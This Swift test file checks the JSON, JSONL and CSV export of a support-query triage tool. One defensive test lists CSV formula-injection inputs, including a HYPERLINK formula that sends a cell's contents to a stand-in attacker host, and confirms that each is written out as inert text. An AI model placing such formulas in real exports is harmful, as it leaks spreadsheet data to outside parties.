import Foundation
import TestSupport
import Testing
import TriageCore
import TriageIngest

@Suite("Export")
struct ExportWriterTests {
    func record(_ id: Int, text: String) -> QueryRecord {
        QueryRecord(
            id: QueryID(String(id)),
            query: SupportQuery(text: text, subject: "S", externalId: "e-\(id)", createdAt: Date(timeIntervalSince1970: 0)),
            status: .classified, attempts: 2, nextAttemptAt: Date(),
            lastError: RecordedError(kind: "timeout", message: "slow", at: Date()),
            classification: Classification(category: "billing", priority: "high", sentiment: "negative", language: "en",
                                           confidence: 0.75, summary: "sum", model: "m", taxonomyVersion: "v"),
            updatedAt: Date()
        )
    }

    func export(_ format: QueryFileFormat, _ records: [QueryRecord]) throws -> String {
        let folder = try TemporaryDirectory()
        defer { folder.remove() }
        let path = folder.path("out")
        _ = FileManager.default.createFile(atPath: path, contents: nil)
        let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: path))
        var writer = ExportWriter(format: format, output: handle)
        try writer.begin()
        for record in records { try writer.write(record) }
        try writer.end()
        try handle.close()
        return try String(contentsOfFile: path, encoding: .utf8)
    }

    @Test("JSON carries status, attempts, last error and classification at the top level")
    func json() throws {
        let text = try export(.json, [record(1, text: "a"), record(2, text: "b")])
        let objects = try #require(try JSONSerialization.jsonObject(with: Data(text.utf8)) as? [[String: Any]])
        #expect(objects.count == 2)
        #expect(objects[0]["id"] as? String == "1")
        #expect(objects[0]["status"] as? String == "classified")
        #expect(objects[0]["attempts"] as? Int == 2)
        #expect(objects[0]["lastErrorKind"] as? String == "timeout")
        #expect(objects[0]["category"] as? String == "billing")
        #expect(objects[0]["confidence"] as? Double == 0.75)
        #expect(objects[0]["createdAt"] as? String == "1970-01-01T00:00:00.000Z")
        #expect(try export(.json, []) == "[]\n")
    }

    @Test("CSV escapes what needs it and reads back with the importer")
    func csvRoundTrip() throws {
        let text = try export(.csv, [record(1, text: "Hi, \"quoted\"\nnext line")])
        #expect(text.hasPrefix("id,externalId,text,"))
        let reread = try QueryFileReader.parse(Data(text.utf8), format: .csv, file: "export.csv")
        #expect(reread.first?.text == "Hi, \"quoted\"\nnext line")
        #expect(reread.first?.externalId == "e-1")
        #expect(reread.first?.metadata == [:])
    }

    @Test("CSV cells that a spreadsheet would run as a formula are written as text", arguments: [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(1)", "\tindent", "\rreturn",
        "=1,2", " =1+1", "   @SUM(1)", "\u{FF1D}1+1", "\u{FF0B}1", " \u{FF20}x", "\n=1+1", "\u{A0}=1",
    ])
    func csvFormulas(text: String) throws {
        let csv = try export(.csv, [record(1, text: text)])
        let cell = try #require(csv.split(separator: "\r\n").dropFirst().first.map(String.init))
        let fields = cell.split(separator: ",", maxSplits: 3).map(String.init)
        let textCell = fields[2].hasPrefix("\"") ? String(fields[2].dropFirst()) : fields[2]
        #expect(textCell.hasPrefix("'"), "\(cell)")
        let reread = try QueryFileReader.parse(Data(csv.utf8), format: .csv, file: "export.csv")
        #expect(reread.first?.text == "'" + text)
    }

    @Test("a cell with either separator, a quote or a tab is quoted, and reads back whole", arguments: [
        "a;b", "1;2;3", "say \"hi\"", "a\tb", "a,b",
    ])
    func csvSeparators(text: String) throws {
        let csv = try export(.csv, [record(1, text: text)])
        let row = try #require(csv.split(separator: "\r\n").dropFirst().first.map(String.init))
        #expect(row.contains("\"" + text.replacingOccurrences(of: "\"", with: "\"\"") + "\""), "\(row)")
        let reread = try QueryFileReader.parse(Data(csv.utf8), format: .csv, file: "export.csv")
        #expect(reread.first?.text == text)
    }

    @Test("JSONL is one object a line and reads back with the importer")
    func jsonlRoundTrip() throws {
        let text = try export(.jsonl, [record(1, text: "a"), record(2, text: "b")])
        #expect(text.split(separator: "\n").count == 2)
        let reread = try QueryFileReader.parse(Data(text.utf8), format: .jsonl, file: "export.jsonl")
        #expect(reread.map(\.text) == ["a", "b"])
        #expect(reread.allSatisfy { $0.metadata.isEmpty })
    }
}
